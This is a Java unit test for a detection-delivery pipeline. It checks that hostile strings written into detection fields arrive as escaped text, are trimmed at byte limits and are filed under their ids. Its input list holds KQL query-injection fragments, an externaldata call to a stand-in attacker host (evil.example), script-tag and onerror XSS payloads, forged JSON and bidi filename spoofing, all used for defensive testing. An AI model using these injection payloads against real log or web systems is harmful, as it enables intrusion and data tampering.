package dev.lockstep.sentinel.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import com.fasterxml.jackson.core.StreamReadFeature;
import dev.lockstep.schemas.Detection;
import dev.lockstep.schemas.Principal;
import dev.lockstep.sentinel.fake.FakeLogsIngestionApi.Row;
import dev.lockstep.sentinel.logs.DetectionRow;
import dev.lockstep.sentinel.sink.Findings;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;

/** What an attacker may write into a name arrives as text, cut at the limits, under its id. */
class HostileRowsTest {
  private static final List<String> WORDS =
      List.of(
          "\u0000\u0001\u0007\b\t\n\u000b\r\u001b[31m\u007f\u0085",
          "\u202Egpj.exe\u202C \u2066x\u2069 \u200F\u061C",
          "'; LockstepDetections_CL | where 1==1 //",
          "\"}) | invoke externaldata(x:string)[@'https://evil.example/x'] //",
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "{\"DetectionId\":\"forged\",\"Revision\":99}",
          "],[{\"x\":1}],",
          "\\u0022\\\\\"\\\"",
          "\uFEFF\u2028\u2029\u00AD\u200B",
          "x\uD800y",
          "\uDFFF",
          "\uD83D",
          "\uFFFE\uFFFF\uFDD0",
          "\uDBFF\uDFFF".repeat(20_000),
          "\uD83D\uDE80".repeat(40_000),
          "a".repeat(65_534),
          "a".repeat(65_535),
          "\u0001".repeat(65_536),
          "\"".repeat(131_072),
          "e\u0301".repeat(100_000));

  @AutoClose private final Delivery delivery = new Delivery(1);

  @Test
  void arriveAsText_cutAtTheLimits_underTheirIds() throws IOException {
    assertThat(WORDS).hasSize(20);
    for (int i = 0; i < WORDS.size(); i++) {
      String word = WORDS.get(i);
      Detection detection = Findings.full();
      detection.setId("hostile-" + i);
      detection.setTitle(word);
      detection.setDescription(word);
      detection.setPrincipal(new Principal(word, word, "user"));
      detection.setEvidence(List.of(Findings.evidence(word, Map.of(word, word))));
      delivery.topic.write(0, detection);
    }
    delivery.finish();
    assertThat(delivery.deadLetters()).isEmpty();
    Map<String, Row> latest = delivery.sentinel.latest();
    assertThat(latest).hasSize(20);
    byte[] whole = DetectionRow.of(Findings.full()).sent(Instant.EPOCH);
    Set<String> allColumns =
        new TreeSet<>(columns(new String(whole, StandardCharsets.UTF_8)).keySet());
    allColumns.add("Trimmed");
    for (int i = 0; i < WORDS.size(); i++) {
      Map<String, String> columns = columns(json(latest, i));
      assertThat(columns.get("DetectionId")).isEqualTo("hostile-" + i);
      assertThat(columns.get("Revision")).isEqualTo("3");
      assertThat(columns.keySet()).isSubsetOf(allColumns);
      String title = columns.getOrDefault("AlertTitle", "");
      assertThat(title.getBytes(StandardCharsets.UTF_8).length)
          .isLessThanOrEqualTo(DetectionRow.MAX_COLUMN_BYTES);
      String word = utf8(WORDS.get(i));
      if (title.contains("… [cut: ")) {
        String kept = title.substring(0, title.lastIndexOf("… [cut: "));
        assertThat(word).startsWith(kept);
        assertThat(title).endsWith("[cut: " + WORDS.get(i).length() + " characters]");
      } else {
        assertThat(title).isEqualTo(word);
      }
    }
    assertThat(columns(json(latest, 15)).get("AlertTitle"))
        .as("fits to the last byte")
        .hasSize(65_534);
    assertThat(columns(json(latest, 16)).get("AlertTitle")).contains("… [cut: ");
  }

  /** A lone half of a pair is no character, and becomes a question mark wherever it is written. */
  private static String utf8(String text) {
    return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8);
  }

  private static String json(Map<String, Row> latest, int number) {
    return Objects.requireNonNull(latest.get("hostile-" + number)).json();
  }

  /** Returns a row's columns: texts as they are, whatever else as JSON's beginning. */
  private static Map<String, String> columns(String json) throws IOException {
    Map<String, String> columns = new TreeMap<>();
    JsonFactory strict =
        JsonFactory.builder().enable(StreamReadFeature.STRICT_DUPLICATE_DETECTION).build();
    try (JsonParser parser = strict.createParser(json)) {
      assertThat(parser.nextToken()).isEqualTo(JsonToken.START_OBJECT);
      while (parser.nextToken() == JsonToken.FIELD_NAME) {
        String column = parser.currentName();
        parser.nextToken();
        columns.put(column, parser.getText());
        parser.skipChildren();
      }
      assertThat(parser.nextToken()).isNull();
    }
    return columns;
  }
}
